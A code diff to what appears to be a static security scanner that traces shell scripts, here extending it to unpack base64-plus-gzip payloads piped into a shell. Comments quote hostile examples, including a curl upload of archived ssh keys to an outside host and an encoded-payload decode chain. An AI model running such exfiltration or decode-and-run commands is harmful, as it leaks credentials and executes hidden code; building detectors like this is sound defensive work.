@@ -5,6 +5,7 @@
  * file, `curl -F f=@/tmp/b.tgz https://x` is one flow (read ssh-keys → archive → send). Text piped through a
  * decoder into a shell is decoded and lowered again, marked `decoded`.
  */
+import { gunzipSync } from 'node:zlib';
 import path from 'node:path';
 import { decodeBase64, decodeHex, decodeRot13, isMostlyPrintable } from '../analyzers/decode.js';
 import { PAYLOAD_PLACEHOLDER } from '../analyzers/shell.js';
@@ -385,17 +386,33 @@ function decodedPipeline(src: string): string | undefined {
   if (!head) return undefined;
   let t = [...head[2]!.matchAll(/(["'])([^"'\n]*)\1/g)].map((m) => m[2]).join('');
   if (t.length < 16) return undefined;
+  let bytes: Buffer | undefined; // what the last stage output, as bytes (base64 of a gzip stream)
   for (const stage of stages.slice(1)) {
     // (a stage run through eval, `eval "base64${IFS}-d"`, is its words; ${IFS} is a space)
     const st = stage.replace(/\s*2>\s*\/dev\/null\s*$/, '').trim().replace(/^eval\s+(["']?)(.*)\1$/, '$2').replace(/^(["'])([\w.-]+)\1(?=\s|$)/, '$2').replace(/\$\{IFS\}|\$IFS\b/g, ' ').replace(/\s+/g, ' ').trim();
     let next: string | undefined;
     if (/^tr\s+-d\s+(["']?)\\n\1$/.test(st)) next = t.replace(/\n/g, '');
     else if (/^xxd\s+(?:-r\s+-p|-rp|-p\s+-r|-r)$/.test(st)) next = /^[0-9a-fA-F\s]+$/.test(t) ? decodeHex(t.replace(/\s+/g, '')) : undefined;
-    else if (/^(?:base64\s+(?:-d|--decode|-D)|openssl\s+(?:enc\s+)?-base64\s+-d)$/.test(st)) next = decodeBase64(t.replace(/\s+/g, ''));
+    else if (/^(?:base64\s+(?:-d|--decode|-D)|openssl\s+(?:enc\s+)?-base64\s+-d)$/.test(st)) {
+      bytes = Buffer.from(t.replace(/\s+/g, ''), 'base64');
+      next = bytes[0] === 0x1f && bytes[1] === 0x8b ? bytes.toString('latin1') : decodeBase64(t.replace(/\s+/g, ''));
+      if (next === undefined) return undefined;
+      t = next;
+      continue;
+    }
+    // (a gzip stream, `… | base64 -d | gunzip -c`)
+    else if (/^(?:gunzip|zcat|gzip\s+-d)(?:\s+-[cfq]+)*$/.test(st)) {
+      try {
+        next = gunzipSync(bytes ?? Buffer.from(t, 'latin1')).toString('utf8');
+      } catch {
+        next = undefined;
+      }
+    }
     else if (st === 'rev') next = [...t].reverse().join('');
     else if (TR_ROT13_STAGE.test(st)) next = decodeRot13(t);
     if (next === undefined) return undefined;
     t = next;
+    bytes = undefined;
   }
   return isMostlyPrintable(t) ? t : undefined;
 }
@@ -1284,7 +1301,8 @@ export function lowerShell(text: string, opts: ShellOptions): Effect[] {
         const decoded = decodeLiteral(src, all);
         if (decoded) {
           effects.push({ ...b, kind: 'encode', evidence: `decodes: ${decoded.slice(0, 140)}`, produces: [`pipe:${c.line}:${c.pos}@${opts.scope}`] });
-          for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push(e);
+          // (the decoded text's own lines are not the file's: each effect is told at the line that decodes it)
+          for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push({ ...e, line: c.line });
         }
       }
 
@@ -1322,11 +1340,13 @@ export function lowerShell(text: string, opts: ShellOptions): Effect[] {
       if (/^(?:eval|source|\.)$/.test(w0) || (SHELLS.test(w0) && args.includes('-c'))) {
         for (const m of c.raw.matchAll(/\$\(((?:[^()]|\([^()]*\))*)\)/g)) {
           const inner = m[1];
-          const decoded = inner && !/\b(?:curl|wget)\b/.test(inner) ? decodeLiteral(inner, inner) : undefined;
+          // (with the script's values in place: `echo "$_PACKED" | base64 -d | gunzip -c`)
+          const decoded = inner && !/\b(?:curl|wget)\b/.test(inner) ? (decodeLiteral(inner, inner) ?? (inner.includes('$') ? decodeLiteral(expand(inner), inner) : undefined)) : undefined;
           if (!decoded) continue;
           effects.push({ ...b, kind: 'encode', evidence: `decodes: ${decoded.slice(0, 140)}` });
           effects.push({ ...b, kind: 'exec', origin: 'decoded', command: decoded.slice(0, 200) });
-          for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push(e);
+          // (the decoded text's own lines are not the file's: each effect is told at the line that decodes it)
+          for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push({ ...e, line: c.line });
         }
       }
       // (a decoded variable printed into the pipe, `printf '%s' "$p" | sh`, is decoded input too)
